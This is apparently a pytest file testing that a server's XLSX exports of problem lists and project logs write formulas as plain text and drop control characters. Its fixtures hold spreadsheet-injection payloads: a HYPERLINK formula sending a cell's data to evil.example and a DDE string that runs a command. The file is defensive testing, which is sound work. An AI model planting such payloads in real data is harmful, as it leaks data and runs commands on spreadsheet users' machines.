"""Text stored before input checks existed (a control character, a formula) still gives the
lists as XLSX: characters a workbook cannot hold are dropped, formulas stay plain text."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from server.db import db
from server.projects.models import ProgressReport

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CONTROL_TITLE = "三户\x01无法\x1f供水"
UNIT_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def controls(world):  # type: ignore[no-untyped-def]
    """A problem with control characters in its title and description."""
    world["issues"]["no_water"].title = CONTROL_TITLE
    world["issues"]["no_water"].description = "第一行\x0b第二行"
    db.session.commit()
    return world


@pytest.fixture
def formulas(world):  # type: ignore[no-untyped-def]
    """A problem titled by a formula, of a unit named by one."""
    world["issues"]["menu"].title = FORMULA_TITLE
    world["welfare"].name = UNIT_NAME
    db.session.commit()
    return world


def cells(response, sheet: str | None = None) -> list:  # type: ignore[type-arg]
    """Every non-empty cell of the XLSX response's sheet."""
    assert response.status_code == 200, response.get_json()
    book = load_workbook(BytesIO(response.data))
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def text_of(found: list, value: str):  # type: ignore[no-untyped-def, type-arg]
    matches = [cell for cell in found if cell.value == value]
    assert matches, f"{value!r} not in {[c.value for c in found]}"
    return matches[0]


def test_responsibility_list_with_a_control_character_is_written(as_user, controls) -> None:
    found = cells(as_user(controls["supervisor"]).get("/api/v1/lists/responsibility"))
    assert text_of(found, "三户无法供水").data_type == "s"


def test_responsibility_list_writes_formulas_as_text(as_user, formulas) -> None:
    found = cells(as_user(formulas["supervisor"]).get("/api/v1/lists/responsibility"))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    title = text_of(found, FORMULA_TITLE)
    assert (title.data_type, title.quotePrefix) == ("s", True)
    assert text_of(found, UNIT_NAME).data_type == "s"


def test_responsibility_summary_writes_the_unit_as_text(as_user, formulas) -> None:
    response = as_user(formulas["supervisor"]).get("/api/v1/lists/responsibility")
    assert text_of(cells(response, "汇总"), UNIT_NAME).data_type == "s"


def test_rectification_list_with_a_control_character_is_written(as_user, controls) -> None:
    found = cells(as_user(controls["supervisor"]).get("/api/v1/lists/rectification"))
    assert text_of(found, "三户无法供水").data_type == "s"
    # the description is not the 整改要求: with no slip that column stays blank
    assert "第一行\n第二行" not in [c.value for c in found]


def test_rectification_list_writes_formulas_as_text(as_user, formulas) -> None:
    found = cells(as_user(formulas["supervisor"]).get("/api/v1/lists/rectification"))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert text_of(found, FORMULA_TITLE).data_type == "s"


def test_a_units_own_rectification_list_titled_by_a_formula_name(as_user, formulas) -> None:
    url = f"/api/v1/lists/rectification?unit_id={formulas['welfare'].id}"
    found = cells(as_user(formulas["supervisor"]).get(url))
    assert found[0].value.startswith(UNIT_NAME) and found[0].data_type == "s"


def test_project_log_with_a_control_character_is_written(as_user, controls) -> None:
    url = f"/api/v1/projects/{controls['pipe'].id}/log?format=xlsx"
    found = cells(as_user(controls["supervisor"]).get(url))
    assert text_of(found, "发现问题：三户无法供水").data_type == "s"


def test_project_log_writes_a_formula_note_as_text(as_user, world) -> None:
    pipe = world["pipe"]
    db.session.add(
        ProgressReport(
            project=pipe, report_date=pipe.start_date, progress_pct=5, note="=1+1", source="manual"
        )
    )
    db.session.commit()
    found = cells(as_user(world["supervisor"]).get(f"/api/v1/projects/{pipe.id}/log?format=xlsx"))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert text_of(found, "=1+1").data_type == "s"
